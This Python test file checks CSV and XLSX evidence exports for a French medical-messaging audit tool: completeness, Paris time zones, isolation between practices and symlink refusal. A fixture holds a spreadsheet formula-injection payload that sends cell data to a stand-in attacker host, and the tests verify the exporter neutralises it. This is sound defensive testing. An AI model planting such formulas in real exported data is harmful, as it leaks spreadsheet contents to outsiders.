"""Evidence files: every trace behind every finding of a practice's month, for French Excel
(CSV) and as a workbook (XLSX), with Paris times, formula-proof cells and nothing of another
practice; and the report's links to them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from xml.etree import ElementTree

import pytest

from analysis_cases import HOLDER, MARCH, SECRETARY, STRANGER, local, new_case
from delegation_reports.reports import evidence
from delegation_reports.reports.monthly import MAX_EVIDENCE_ROWS, MonthlyReport
from delegation_reports.reports.output import refuse_link

OTHER_HOLDER = "zoe.autre@medecin.mssante.fr"
OTHER_ACTOR = "canari.intrus@pro.mssante.fr"
# Attacker-controlled fields a spreadsheet would run as formulas.
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
FORMULA_IP = "+33.1"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture(scope="module")
def two_practices(tmp_path_factory):
    """P1 with a burst of reads by its secretary, an intruder and a hostile user agent; P2 with
    an intruder of its own (canaries that must not reach P1's files)."""
    folder = tmp_path_factory.mktemp("evidence")
    with new_case(folder) as case:
        case.practice(staff=[SECRETARY])
        case.practice("P2", holders=[OTHER_HOLDER])
        case.grant(HOLDER, SECRETARY, "2026-02-02 09:00")
        burst = case.events(
            HOLDER, SECRETARY, case.series("2026-03-03 14:00", 300, timedelta(seconds=4))
        )
        intruder = case.events(
            HOLDER, STRANGER, ["2026-03-05 10:00"], agent=FORMULA_AGENT, ip=FORMULA_IP
        )
        # The night the clocks go back is not in March; a time of the change to summer time is.
        late = case.events(HOLDER, STRANGER, ["2026-03-29 03:30"])
        other = case.events(OTHER_HOLDER, OTHER_ACTOR, ["2026-03-06 10:00"], prefix="CANARY")
        case.refresh()
        yield case, {"burst": burst, "intruder": intruder + late, "other": other}


def _csv(case, practice_id, tmp_path) -> tuple[bytes, list[list[str]]]:
    path = tmp_path / f"{practice_id}-preuves.csv"
    evidence.write_csv(case.con, practice_id, MARCH, path)
    data = path.read_bytes()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    return data, rows


def test_csv_for_french_excel_holds_every_trace_of_every_finding(two_practices, tmp_path):
    case, ids = two_practices
    data, rows = _csv(case, "P1", tmp_path)
    assert data.startswith("\ufeff".encode())
    assert b"\r\n" in data
    header, body = rows[0], rows[1:]
    assert header[0] == "finding_id"
    assert "Date et heure (heure de Paris)" in header and "Gravité" in header
    findings = [f for f in case.findings() if f["practice_id"] == "P1"]
    expected = sorted((f["finding_id"], e) for f in findings for e in f["evidence"])
    col = {name: i for i, name in enumerate(header)}
    written = sorted((r[col["finding_id"]], r[col["Identifiant de la trace"]]) for r in body)
    assert written == expected
    # The burst's 300 reads are all there, not 12 and "… et 288 autres".
    assert {r[col["Identifiant de la trace"]] for r in body} >= set(ids["burst"])
    first = next(r for r in body if r[col["Identifiant de la trace"]] == ids["burst"][0])
    assert first[col["Date et heure (heure de Paris)"]] == "03/03/2026 14:00:00"
    assert first[col["Instant UTC"]] == "2026-03-03T13:00:00Z"
    assert first[col["Action"]] == "lecture"
    assert first[col["Résultat"]] == "réussite"
    assert first[col["Règle"]] == "Lecture massive de messages"
    assert first[col["Gravité"]] == "À vérifier"
    # After the change to summer time (29 March): UTC+2.
    late = next(r for r in body if r[col["Identifiant de la trace"]] == ids["intruder"][1])
    assert late[col["Date et heure (heure de Paris)"]] == "29/03/2026 03:30:00"
    assert late[col["Instant UTC"]] == "2026-03-29T01:30:00Z"
    # No code reaches the reader: severities, actions, qualifications are French words.
    for r in body:
        assert r[col["Gravité"]] in ("Critique", "À vérifier", "Information")
        assert r[col["Qualification de l'accès"]] in ("délégataire", "sans délégation")


def test_cells_a_spreadsheet_would_run_are_guarded(two_practices, tmp_path):
    case, ids = two_practices
    _, rows = _csv(case, "P1", tmp_path)
    col = {name: i for i, name in enumerate(rows[0])}
    row = next(r for r in rows[1:] if r[col["Identifiant de la trace"]] == ids["intruder"][0])
    assert row[col["Logiciel"]] == "'" + FORMULA_AGENT
    assert row[col["Adresse IP"]] == "'" + FORMULA_IP
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_a_practice_s_files_hold_nothing_of_another(two_practices, tmp_path):
    case, ids = two_practices
    data, rows = _csv(case, "P1", tmp_path)
    text = data.decode("utf-8-sig")
    for canary in (OTHER_HOLDER, OTHER_ACTOR, *ids["other"], "CANARY"):
        assert canary not in text
    path = tmp_path / "P1-preuves.xlsx"
    evidence.write_xlsx(case.con, "P1", MARCH, path)
    with zipfile.ZipFile(path) as book:
        xml = "".join(book.read(n).decode("utf-8") for n in book.namelist())
    for canary in (OTHER_HOLDER, OTHER_ACTOR, *ids["other"], "CANARY"):
        assert canary not in xml
    # The other practice's own file has its own finding.
    _, other = _csv(case, "P2", tmp_path)
    assert {r[7] for r in other[1:]} == set(ids["other"])


def _sheet(book: zipfile.ZipFile, name: str) -> list[list]:
    """A sheet's rows: inline or shared strings as text, numbers as floats."""
    workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
    names = [s.get("name") for s in workbook.iter(f"{MAIN}sheet")]
    root = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{names.index(name) + 1}.xml"))
    shared = []
    if "xl/sharedStrings.xml" in book.namelist():
        strings = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in strings]
    rows = []
    for row in root.iter(f"{MAIN}row"):
        cells = []
        for c in row.iter(f"{MAIN}c"):
            assert c.find(f"{MAIN}f") is None, "a formula"
            kind = c.get("t")
            if kind == "inlineStr":
                cells.append("".join(t.text or "" for t in c.iter(f"{MAIN}t")))
            elif kind == "s":
                cells.append(shared[int(c.find(f"{MAIN}v").text)])
            elif kind == "str":
                raise AssertionError("a formula's cached string")
            else:
                cells.append(float(c.find(f"{MAIN}v").text))
        rows.append(cells)
    return rows


def _time_format(book: zipfile.ZipFile) -> str:
    """The number format of the first trace's time cell on the Traces sheet."""
    sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet2.xml"))
    letter = chr(ord("A") + evidence.TIME_COLUMN)
    cell = next(c for c in sheet.iter(f"{MAIN}c") if c.get("r") == f"{letter}2")
    styles = ElementTree.fromstring(book.read("xl/styles.xml"))
    xf = list(styles.find(f"{MAIN}cellXfs"))[int(cell.get("s"))]
    formats = {f.get("numFmtId"): f.get("formatCode") for f in styles.iter(f"{MAIN}numFmt")}
    return formats[xf.get("numFmtId")]


def test_workbook_has_real_paris_dates_and_text_that_is_never_a_formula(two_practices, tmp_path):
    case, ids = two_practices
    path = tmp_path / "P1-preuves.xlsx"
    n = evidence.write_xlsx(case.con, "P1", MARCH, path)
    _, rows = _csv(case, "P1", tmp_path)
    assert n == len(rows) - 1
    with zipfile.ZipFile(path) as book:
        traces = _sheet(book, "Traces")
        findings = _sheet(book, "Constats")
    assert traces[0] == list(evidence.HEADERS)
    col = {name: i for i, name in enumerate(traces[0])}
    by_id = {r[col["Identifiant de la trace"]]: r for r in traces[1:]}
    assert set(by_id) == {r[col["Identifiant de la trace"]] for r in rows[1:]}
    # An Excel date: days since 1899-12-30, in Paris wall-clock time.
    serial = by_id[ids["burst"][0]][col["Date et heure (heure de Paris)"]]
    stamp = datetime(1899, 12, 30) + timedelta(days=serial)
    assert abs(stamp - datetime(2026, 3, 3, 14, 0)) < timedelta(milliseconds=1)
    # Shown as a date and time by the workbook's style.
    with zipfile.ZipFile(path) as book:
        assert _time_format(book) == "dd/mm/yyyy hh:mm:ss"
    # The hostile user agent is text, as is, not a formula.
    assert by_id[ids["intruder"][0]][col["Logiciel"]] == FORMULA_AGENT
    # The findings sheet carries each finding's explanation and advice.
    assert findings[0][:2] == ["finding_id", "Gravité"]
    assert {r[0] for r in findings[1:]} == {
        f["finding_id"] for f in case.findings() if f["practice_id"] == "P1"
    }
    assert all(r[7].strip() for r in findings[1:])  # advice


def test_traces_beyond_a_sheet_s_last_row_go_on_another_sheet(two_practices, tmp_path, monkeypatch):
    case, _ = two_practices
    monkeypatch.setattr(evidence, "XLSX_MAX_ROWS", 101)  # a header and 100 traces per sheet
    path = tmp_path / "P1-preuves.xlsx"
    n = evidence.write_xlsx(case.con, "P1", MARCH, path)
    with zipfile.ZipFile(path) as book:
        sheets = ["Traces"] + [f"Traces ({i})" for i in range(2, (n + 99) // 100 + 1)]
        rows = [r for name in sheets for r in _sheet(book, name)[1:]]
    assert len(rows) == n > 300


def test_rows_are_read_in_batches_with_the_same_result(two_practices, tmp_path, monkeypatch):
    case, _ = two_practices
    whole, _ = _csv(case, "P1", tmp_path)
    monkeypatch.setattr(evidence, "BATCH_ROWS", 7)
    batched, _ = _csv(case, "P1", tmp_path)
    assert batched == whole


def test_evidence_is_written_through_a_temporary_file_never_a_link(two_practices, tmp_path):
    case, _ = two_practices
    target = tmp_path / "P1-preuves.csv"
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("untouched")
    target.symlink_to(elsewhere)
    with pytest.raises(Exception, match="symbolic link"):
        evidence.write_csv(case.con, "P1", MARCH, target)
    assert elsewhere.read_text() == "untouched"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
    refuse_link(tmp_path / "absent.csv")  # a plain path is fine


def test_report_links_the_traces_it_does_not_show(two_practices):
    case, ids = two_practices
    report = MonthlyReport.from_connection(case.con, "P1", MARCH)
    html = report.section("findings")
    hidden = len(ids["burst"]) - MAX_EVIDENCE_ROWS
    assert f"… et {hidden} autres traces : toutes figurent dans le fichier des preuves" in html
    assert 'href="./P1-preuves.csv"' in html and 'href="./P1-preuves.xlsx"' in html
    bulk = next(f for f in report.findings if f.rule_id == "bulk_access")
    assert f"<code>{bulk.finding_id}</code>" in html
    assert f"Les {MAX_EVIDENCE_ROWS} premières traces sur 300" in html


def test_evidence_file_names_and_links():
    assert evidence.file_names("C123") == ("C123-preuves.csv", "C123-preuves.xlsx")
    assert evidence.links("C1.2_3-4") == ("./C1.2_3-4-preuves.csv", "./C1.2_3-4-preuves.xlsx")
    assert re.fullmatch(r"\./[A-Za-z0-9._%-]+", evidence.links("a b")[0])
    assert local("2026-03-03 14:00").astimezone(UTC).hour == 13
